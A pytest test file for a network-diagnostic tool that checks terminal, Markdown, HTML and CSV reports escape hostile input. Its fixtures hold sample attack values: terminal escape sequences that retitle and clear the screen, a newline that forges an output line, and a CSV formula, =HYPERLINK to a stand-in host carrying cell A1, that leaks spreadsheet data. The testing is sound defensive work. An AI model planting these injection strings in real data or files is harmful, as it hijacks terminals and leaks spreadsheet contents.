"""Hostile strings in records and names (escape sequences from a PTR answer, a crafted
run record) are shown, never sent to the terminal: every format, the errors too."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reachtest.cli import main
from reachtest.report.csvfile import render_csv
from reachtest.report.escape import for_terminal
from reachtest.report.html import render_html
from reachtest.report.markdown import render_markdown
from reachtest.report.record import Record
from reachtest.report.terminal import render_text
from reachtest.report.view import build_view
from tests.unit.report.conftest import sim_record

TITLE = "\x1b]0;PWNED\x07"  # sets the terminal's title
CLEAR = "\x1b[2J"  # clears the screen
CSI8 = "\x9b2J"  # the same with the 8-bit CSI


def test_control_characters_are_written_out() -> None:
    assert for_terminal("a\x1bb\x07c\nd\re\tf\x7fg\x9bh") == (
        "a\\x1bb\\x07c\\x0ad\\x0de\\x09f\\x7fg\\x9bh"
    )
    assert for_terminal("r1.lab → ü ✓") == "r1.lab → ü ✓"  # printable text untouched


def hostile() -> Record:
    record = sim_record()
    address = next(iter(record["names"]))
    record["names"][address] = f"evil{TITLE}{CLEAR}name"
    target = record["targets"][0]
    target["host"] = f"srv{CSI8}x"
    target["flows"][0]["path"]["last_address"] = f"a{CLEAR}"
    finding = {
        "kind": "silent-hop",
        "severity": "info",
        "flow": None,
        "first_hop": 2,
        "last_hop": 2,
        "responder": None,
        "confidence": 1.0,
        "note": f"n{TITLE}",
        "summary": f"line one\nforged line{CLEAR}",
        "evidence": [],
    }
    target["findings"].append(finding)
    record["command"].append(f"x{TITLE}")
    return record


@pytest.mark.parametrize("color", [False, True])
def test_no_format_sends_what_a_record_holds(color: bool) -> None:
    view = build_view(hostile())
    outputs = {
        "text": render_text(view, width=200, color=color),
        "markdown": render_markdown(view),
        "html": render_html(view),
        "csv": render_csv(hostile()),
    }
    for name, text in outputs.items():
        for bad in (TITLE, CLEAR, CSI8, "\x07", "\nforged line"):
            assert bad not in text, (name, bad)
    assert "evil\\x1b]0;PWNED\\x07" in outputs["text"]
    assert "\\x0aforged line" in outputs["text"]
    if not color:
        assert "\x1b" not in outputs["text"]


def test_show_prints_a_hostile_record_harmlessly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(hostile()))
    assert main(["show", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out


def test_an_error_line_quotes_without_sending(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["config", "check", str(tmp_path / f"no{CLEAR}\nsuch.toml")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err
    assert "no\\x1b[2J\\x0asuch.toml" in err


def test_a_csv_cell_from_the_network_is_never_a_formula() -> None:
    import csv
    import io

    record = sim_record()
    address = next(iter(record["names"]))
    record["names"][address] = '=HYPERLINK("http://x.example/?"&A1,"r1")'
    record["targets"][0]["host"] = "@SUM(1+1)"
    rows = list(csv.DictReader(io.StringIO(render_csv(record))))
    named = [r for r in rows if r["responder"] == address]
    assert named and all(r["responder_name"].startswith("'=HYPERLINK(") for r in named)
    assert {r["target"] for r in rows} == {"'@SUM(1+1)"}
    for row in rows:  # no other text cell starts like a formula; numbers stay numbers
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
    assert all(float(r["snt"]) >= 0 for r in rows)
